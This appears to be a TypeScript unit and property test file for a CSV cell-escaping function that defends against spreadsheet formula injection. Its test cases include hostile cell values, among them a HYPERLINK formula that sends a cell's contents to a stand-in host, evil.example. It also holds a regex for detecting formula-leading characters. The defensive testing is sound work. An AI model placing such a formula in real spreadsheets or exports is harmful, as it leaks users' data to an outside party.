import fc from 'fast-check';

import { csvCell, csvText } from './csv';

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a"b', '"a""b"'],
    ['a\\b', 'a\\b'],
    ['a.b|c', 'a.b|c'],
    ['a,b', '"a,b"'],
    ['a\nb', '"a\nb"'],
    ['`x` ${x}', '`x` ${x}'],
    ['🦊', '🦊'],
    [' a', '" a"'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['  =1', "'  =1"],
    ['＝1', "'＝1"],
    ['=HYPERLINK("https://evil.example/?x="&A1,"open")', '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""open"")"'],
  ])('%j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves numbers alone', () => {
    expect(csvText([[-5, 1.5, NaN]])).toBe('-5,1.5,\r\n');
  });

  it('is read back by a reader of RFC 4180, whatever stands in it', () => {
    const cell = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom('=', '"', ',', '\r', '\n', '\t', ' ', 'a') }));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
        const back = readCsv(csvText(rows));
        expect(back).toEqual(rows.map((row) => row.map((text) => (startsFormula(text) ? `'${text}` : text))));
        back.flat().forEach((text) => expect(text).not.toMatch(/^[=+\-@\t\r]/));
      })
    );
  });
});

function startsFormula(text: string): boolean {
  return /^[\t\r\n]/.test(text) || /^[=+\-@\uff0b\uff0d\uff1d\uff20]/.test(text.replace(/^[\s\0]+/, ''));
}

function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  for (let at = 0; at < text.length; at++) {
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        cell += text[at];
        at += text[at] === '"' ? 1 : 0;
      }
    } else if (text[at] === ',') {
      row.push(cell);
      cell = '';
    } else if (text[at] === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at++;
    } else {
      cell += text[at];
    }
  }
  return rows;
}
